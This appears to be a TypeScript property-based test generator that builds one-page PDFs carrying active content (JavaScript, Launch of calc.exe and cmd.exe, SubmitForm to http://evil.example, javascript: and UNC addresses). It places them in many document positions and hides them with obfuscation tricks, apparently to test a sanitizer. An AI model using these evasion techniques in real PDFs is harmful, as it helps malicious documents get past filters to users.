import fc from 'fast-check';
import { getFirstExtra, writeTextPdf } from './writePdf.ts';

/** A PDF of one page with one piece of active content, and how it was made, for the message of a failing test. */
export interface DisguisedPdf {
  bytes: Uint8Array;
  recipe: string;
}

type Entries = [string, string][];

/** Adds an object to the file and returns a reference to it. */
type NewObject = (text: string) => string;

function encodeUtf16(text: string): string {
  return `FEFF${[...text].map((character) => character.charCodeAt(0).toString(16).padStart(4, '0')).join('')}`;
}

/** Entries of an action, each value as PDF text. */
const PAYLOADS: Record<string, Entries> = {
  script: [
    ['S', '/JavaScript'],
    ['JS', '(app.alert\\(1\\))'],
  ],
  'program start': [
    ['S', '/Launch'],
    ['F', '(calc.exe)'],
  ],
  'program start on Windows': [
    ['S', '/Launch'],
    ['Win', '<</F(cmd.exe)/P(/c dir)>>'],
  ],
  'sent form': [
    ['S', '/SubmitForm'],
    ['F', '<</FS/URL/F(http://evil.example)>>'],
  ],
  'data import': [
    ['S', '/ImportData'],
    ['F', '(x.fdf)'],
  ],
  'script of a film': [
    ['S', '/Rendition'],
    ['OP', '0'],
    ['JS', '(app.alert\\(1\\))'],
  ],
  'film on the network': [
    ['S', '/Rendition'],
    ['OP', '0'],
    ['R', '<</S/MR/C<</S/MCD/D(\\\\\\\\host\\\\share\\\\x.avi)>>>>'],
  ],
  'film whose base is a file': [
    ['S', '/Rendition'],
    ['OP', '0'],
    ['R', '<</S/SR/R[<</S/MR/C<</S/MCD/D(x.avi)/BE<</BU(file://host/)>>>>>>]>>'],
  ],
  'program of the system': [
    ['S', '/URI'],
    ['URI', '(search-ms:query=x)'],
  ],
  'script address': [
    ['S', '/URI'],
    ['URI', '(javascript:alert\\(1\\))'],
  ],
  'script address after blanks': [
    ['S', '/URI'],
    ['URI', '(\\t jAvA\\nscript:x)'],
  ],
  'address behind a mark of UTF-8': [
    ['S', '/URI'],
    ['URI', '<EFBBBF6A6176617363726970743A78>'],
  ],
  'address in UTF-16': [
    ['S', '/URI'],
    ['URI', '<FEFF00660069006C0065003A002F002F0078>'],
  ],
  'address in UTF-16, other order': [
    ['S', '/URI'],
    ['URI', '<FFFE76006200730063007200690070007400 3A007800>'],
  ],
  'address with an invisible letter': [
    ['S', '/URI'],
    ['URI', '<FEFF006A0061200B00760061007300630072006900700074003A0078>'],
  ],
  'address behind a language code': [
    ['S', '/URI'],
    ['URI', `<${encodeUtf16('\u001bhttp:\u001bjavascript:x')}>`],
  ],
  'address by numbers of letters': [
    ['S', '/URI'],
    ['URI', '(%00%6A%61vascript%3Ax)'],
  ],
  'file by numbers of letters': [
    ['S', '/GoToR'],
    ['F', '(%66ile%3A//host/x.pdf)'],
    ['D', '[0/Fit]'],
  ],
  'file on the network': [
    ['S', '/GoToR'],
    ['F', '(\\\\\\\\10.0.0.1\\\\share\\\\x.pdf)'],
    ['D', '[0/Fit]'],
  ],
  'file on the network, specified': [
    ['S', '/GoToR'],
    ['F', '<</Type/Filespec/UF(//host/share/x.pdf)/F(x.pdf)>>'],
    ['D', '[0/Fit]'],
  ],
  'file on the network behind a language code': [
    ['S', '/GoToR'],
    ['F', `<${encodeUtf16('\u001ben\u001b//host/x.pdf')}>`],
    ['D', '[0/Fit]'],
  ],
  'embedded file on the network': [
    ['S', '/GoToE'],
    ['F', '(file://host/x.pdf)'],
    ['T', '<</R/C/N(a.pdf)>>'],
    ['D', '[0/Fit]'],
  ],
};

/** Where an action is, given as PDF text of the action. */
const POSITIONS: Record<string, (action: string, newObject: NewObject) => { annotation?: string; page?: string; catalog?: string }> = {
  link: (action) => ({ annotation: `<</Subtype/Link/Rect[0 0 9 9]/A ${action}>>` }),
  'link to the web': (action) => ({ annotation: `<</Subtype/Link/Rect[0 0 9 9]/PA ${action}>>` }),
  button: (action) => ({ annotation: `<</Subtype/Widget/FT/Btn/T(b)/Rect[0 0 9 9]/A ${action}>>` }),
  'event of a field': (action) => ({ annotation: `<</Subtype/Widget/FT/Tx/T(t)/Rect[0 0 9 9]/AA<</Zz 5/K ${action}>>>>` }),
  'event of a page': (action) => ({ page: `/AA<</Type/Font/O ${action}>>` }),
  'event of the document': (action) => ({ catalog: `/AA<</WC ${action}>>` }),
  'field above others': (action, newObject) => {
    const field = newObject('<</T(b)/FT/Tx/Subtype/Widget/Rect[0 0 9 9]>>');
    const above = newObject(`<</T(a)/AA<</K ${action}>>/Kids[${field}]>>`);
    return { annotation: field, catalog: `/AcroForm<</Fields[${above}]>>` };
  },
  'box that is on no page': (action, newObject) => {
    const field = newObject(`<</T(a)/FT/Btn/Kids[${newObject(`<</Subtype/Widget/Rect[0 0 9 9]/A ${action}>>`)}]>>`);
    return { catalog: `/AcroForm<</Fields[${field}]>>` };
  },
  'step of a presentation': (action) => ({ page: `/PresSteps<</Type/NavNode/NA ${action}>>` }),
  'second step of a presentation': (action) => ({ page: `/PresSteps<</Type/NavNode/Next<</Type/NavNode/PA ${action}>>>>` }),
  'list of actions': (action) => ({ annotation: `<</Subtype/Link/Rect[0 0 9 9]/A[${action}]>>` }),
  film: (action) => ({ catalog: `/Names<</Renditions<</Names[(film) ${action}]>>>>` }),
  portfolio: (action) => ({ catalog: `/Collection<</View/D/Navigator<</Actions[${action}]>>>>` }),
  'state of layers': (action) => ({ catalog: `/OCProperties<</OCGs[]/D<</Order[${action}]>>>>` }),
  opening: (action) => ({ catalog: `/OpenAction ${action}` }),
  bookmark: (action) => ({ catalog: `/Outlines<</First<</Title(x)/A ${action}>>>>` }),
  'viewer preference': (action) => ({ catalog: `/ViewerPreferences<</DisplayDocTitle true/X ${action}>>` }),
};

type Disguise = (entries: Entries, newObject: NewObject) => Entries;
const formatDictionary = (entries: Entries) => `<<${entries.map(([key, value]) => `/${key} ${value}`).join(' ')}>>`;
const buildChain = (next: string): Entries => [
  ['S', '/GoTo'],
  ['D', '[4 0 R/Fit]'],
  ['Next', next],
];

const DISGUISES: Record<string, Disguise> = {
  none: (entries) => entries,
  'type in another object': (entries, newObject) => entries.map(([key, value]) => [key, key === 'S' ? newObject(value) : value]),
  'type behind two objects': (entries, newObject) => entries.map(([key, value]) => [key, key === 'S' ? newObject(newObject(value)) : value]),
  'all values in other objects': (entries, newObject) => entries.map(([key, value]) => [key, newObject(value)]),
  'escaped names': (entries) => entries.map(([key, value]) => [escapeName(key), value.startsWith('/') ? `/${escapeName(value.slice(1))}` : value]),
  'keys of an element': (entries) => [...entries, ['P', '4 0 R'], ['K', '0'], ['Pg', '4 0 R'], ['Type', '/StructElem']],
  'keys of a font': (entries) => [['Type', '/Font'], ['BaseFont', '/Helvetica'], ...entries],
  'behind another action': (entries, newObject) => buildChain(newObject(formatDictionary(entries))),
  'in a list behind another action': (entries) => buildChain(`[<</S/GoTo/D[4 0 R/Fit]>>${formatDictionary(entries)}]`),
  'a comment between': (entries) => entries.map(([key, value]) => [key, `%\n${value}`]),
};

function escapeName(name: string): string {
  return [...name].map((character, index) => (index % 2 === 0 ? `#${character.charCodeAt(0).toString(16)}` : character)).join('');
}

/** Generates PDFs with active content: every payload at every position behind up to three disguises. */
export function generateDisguisedPdfs(): fc.Arbitrary<DisguisedPdf> {
  const chooseOne = <Value>(choices: Record<string, Value>) => fc.constantFrom(...Object.entries(choices));
  return fc
    .record({
      payload: chooseOne(PAYLOADS),
      position: chooseOne(POSITIONS),
      disguises: fc.uniqueArray(chooseOne(DISGUISES), { minLength: 1, maxLength: 3, selector: ([name]) => name }),
      isInOwnObject: fc.boolean(),
      isTag: fc.boolean(),
    })
    .map(({ payload, position, disguises, isInOwnObject, isTag }) => {
      const extra: string[] = [];
      const addObject = (text: string): string => `${getFirstExtra(1) + extra.push(text) - 1} 0 R`;
      const entries = disguises.reduce((changed, [, disguise]) => disguise(changed, addObject), payload[1]);
      const text = formatDictionary(entries);
      const action = isInOwnObject || isTag ? addObject(text) : text;
      const { annotation = '', page = '', catalog = '' } = position[1](action, addObject);
      // The action is a kid of the structure tree as well.
      const tags = isTag ? `/StructTreeRoot ${addObject(`<</Type/StructTreeRoot/K ${action}>>`)}/MarkInfo<</Marked true>>` : '';
      const bytes = writeTextPdf({ pages: ['p'], catalog: catalog + tags, page: () => `${page}/Annots[${annotation}]`, extra });
      const recipe = [payload[0], position[0], ...disguises.map(([name]) => name), isTag ? 'also a tag' : ''].join(', ');
      return { recipe, bytes };
    });
}
